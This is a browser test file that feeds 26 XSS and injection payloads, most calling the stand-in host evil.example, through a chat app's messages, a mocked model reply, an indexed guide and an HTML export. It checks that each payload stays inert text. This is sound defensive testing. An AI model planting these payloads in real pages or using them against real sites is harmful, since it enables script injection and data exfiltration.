"""Hostile texts in a message, a guide and the reply of a language model: none calls out, none comes alive."""

import os
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from json import dumps

import pytest
from playwright.sync_api import expect

from tests.page_visits import ask, served, visitors

pytestmark = pytest.mark.browser

E = "https://evil.example"
PAYLOADS = {
    "image": f'<img src="{E}/1" onerror="window.hacked=1">',
    "markdown image": f"![x]({E}/2)",
    "reference image": f"![x][r]\n\n[r]: {E}/3",
    "srcset": f'<img srcset="{E}/4 2x">',
    "picture": f'<picture><source srcset="{E}/5"><img></picture>',
    "script": f"<script>window.hacked=1;fetch('{E}/6')</script>",
    "script file": f'<script src="{E}/7"></script>',
    "svg": '<svg onload="window.hacked=1"></svg>',
    "svg image": f'<svg><image href="{E}/9"/></svg>',
    "svg use": f'<svg><use href="{E}/10#x"/></svg>',
    "frame": f'<iframe src="{E}/11"></iframe>',
    "frame with text": '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    "object": f'<object data="{E}/13"></object>',
    "embed": f'<embed src="{E}/14">',
    "video": f'<video src="{E}/15" poster="{E}/16" autoplay></video>',
    "audio": f'<audio src="{E}/17" autoplay></audio>',
    "track": f'<video><track default src="{E}/18"></video>',
    "style": f"<style>@import url({E}/19);body{{display:none}}</style>",
    "style attribute": f'<p style="background:url({E}/20)">x</p>',
    "stylesheet": f'<link rel="stylesheet" href="{E}/21">',
    "prefetch": f'<link rel="prefetch" href="{E}/22"><link rel="dns-prefetch" href="{E}">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={E}/23">',
    "base": f'<base href="{E}/"><a href="x">x</a>',
    "form": f'<form action="{E}/25"><button autofocus>go</button></form>',
    "script address": '[click](javascript:window.hacked=1) <a href="javascript:window.hacked=1">x</a>',
    "templates": "${window.hacked=1} {{constructor.constructor('window.hacked=1')()}} $$\\href{javascript:1}{x}$$",
}
ALL = "\n\n".join(PAYLOADS.values())
ALIVE = "img, picture, script, iframe, object, embed, video, audio, style, link, meta, base, form, svg:not(.drawn)"


def nothing_alive(page, where=".said, .answer, #side section, .deeds"):
    expect(page.locator(where).locator(ALIVE)).to_have_count(0)
    assert page.evaluate("window.hacked") is None
    expect(page.locator("body")).to_be_visible()


@pytest.fixture(scope="module")
def lying_model():
    """An OpenAI-compatible server whose model says all of them, whatever it is asked."""

    class Reply(BaseHTTPRequestHandler):
        def do_POST(self):
            self.rfile.read(int(self.headers["content-length"]))
            told = f"The harbour closes at 9 pm. {' '.join(PAYLOADS.values())} [1]"
            message = {"role": "assistant", "content": told}
            choice = {"index": 0, "message": message, "finish_reason": "stop"}
            body = dumps(
                {"id": "1", "object": "chat.completion", "created": 0, "model": "m", "choices": [choice]}
            )
            self.send_response(200)
            self.send_header("content-type", "application/json")
            self.end_headers()
            self.wfile.write(body.encode())

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Reply)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/v1"
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture(scope="module")
def hostile_at(ready, tmp_path_factory, lying_model):
    root = tmp_path_factory.mktemp("hostile")
    (root / "corpus").mkdir()
    parts = [
        f"## Part {n} {one.splitlines()[0]}\n\nThe crane of berth {n} is old. {one}\n"
        for n, one in enumerate(PAYLOADS.values())
    ]
    guide = "# Ports\n\n## Hours\n\nThe harbour closes at 9 pm.\n\n" + "\n".join(parts)
    (root / "corpus" / "ports.md").write_text(guide, encoding="utf-8")
    model = {"GROUNDRULE_MODEL_URL": lying_model, "GROUNDRULE_MODEL": "m"}
    own = {"GROUNDRULE_STORE": f"sqlite:///{root / 'c.db'}"}
    with served(ready | own | model, "--pack", root) as at:
        yield at


@pytest.fixture
def go(browser, hostile_at):
    # That nothing was requested from elsewhere is checked when the visitors leave.
    with visitors(browser, hostile_at) as opened:
        yield opened


def test_there_are_as_many_kinds_as_were_once_found_to_call_out():
    assert len(PAYLOADS) == 26


def test_hostile_words_of_a_message_and_of_a_model_stay_words(go):
    page = go()
    ask(page, f"When does the harbour close?\n\n{ALL}")
    for words in ("<script>", "<iframe", "![x]("):
        expect(page.locator(".said")).to_contain_text(words)
    nothing_alive(page)
    ask(page, "When does the harbour close?")
    expect(page.locator(".answer").last).to_contain_text("9 pm")
    nothing_alive(page)
    page.reload()
    expect(page.locator(".answer")).to_have_count(2)
    nothing_alive(page)


def test_hostile_words_of_a_guide_stay_words_in_answers_sources_and_the_guide_itself(go):
    page = go()
    reply = ask(page, "How is the crane of berth 5?")
    expect(reply.locator(".cite").first).to_be_visible()
    nothing_alive(page)
    explored = go("/explore")
    nothing_alive(explored, "main .guide")
    expect(explored.locator("main .guide")).to_contain_text("Part 25")
    nothing_alive(go("/explore?q=crane"), "main .hits")


def test_a_record_of_hostile_words_opens_without_calling_out(go):
    page = go()
    ask(page, f"How is the crane of berth 3?\n\n{ALL}")
    page.get_by_text("Share").click()
    with page.expect_download() as kept:
        page.get_by_role("link", name="HTML").click()
    record = page.context.new_page()
    asked = []
    record.on("request", lambda request: asked.append(request.url))
    record.goto("file://" + os.fspath(kept.value.path()))
    record.set_content(kept.value.path().read_text(encoding="utf-8"))
    expect(record.locator("blockquote").first).to_contain_text("<script>")
    assert record.evaluate("window.hacked") is None
    assert not [url for url in asked if E in url]
